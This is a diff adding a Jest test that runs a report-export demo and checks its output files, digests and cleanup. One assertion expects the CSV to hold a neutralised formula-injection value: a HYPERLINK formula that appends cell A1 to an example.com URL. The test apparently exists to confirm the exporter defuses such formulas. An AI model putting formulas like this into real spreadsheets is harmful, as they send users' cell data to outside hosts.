@@ -1,0 +1,38 @@
+import { execFile } from "node:child_process";
+import { createHash } from "node:crypto";
+import { readdir, readFile, rm } from "node:fs/promises";
+import { dirname, join } from "node:path";
+import { fileURLToPath } from "node:url";
+import { promisify } from "node:util";
+
+const run = promisify(execFile);
+const DEMO = fileURLToPath(new URL("../dist/demo.js", import.meta.url));
+
+test("the demo exports every report in every format through real processes", async () => {
+  const { stdout } = await run(process.execPath, [DEMO], {
+    // Away from any stack that may run in the repository's own .docket.
+    env: { PATH: process.env["PATH"], DOCKET_HOME: "/nonexistent/docket" },
+  });
+  const files = /^All 12 files are in (.+)$/m.exec(stdout)?.[1] ?? "";
+  expect(stdout).toMatch(/^Done in [\d.]+ s\.$/m);
+
+  const names = await readdir(files);
+  expect(names).toHaveLength(12);
+  for (const name of names) {
+    const bytes = await readFile(join(files, name));
+    const digest = createHash("sha256").update(bytes).digest("hex");
+    expect(stdout).toMatch(new RegExp(`${name} .* ${digest}  ok`));
+  }
+
+  const matched = (extension: string): Promise<string> => {
+    const name = names.find((each) => each.startsWith("MATCHED_") && each.endsWith(extension));
+    return readFile(join(files, name ?? ""), "utf8");
+  };
+  expect((JSON.parse(await matched(".json")) as unknown[]).length).toBeGreaterThan(40_000);
+  const csv = await matched(".csv");
+  expect(csv).toContain(`"'=HYPERLINK(""https://example.com/?x=""&A1,""Open the invoice"")"`);
+
+  // The home, with its database and logs, went with the demo.
+  expect(await readdir(dirname(files))).toEqual(["demo.log", "files"]);
+  await rm(dirname(files), { recursive: true, force: true });
+});
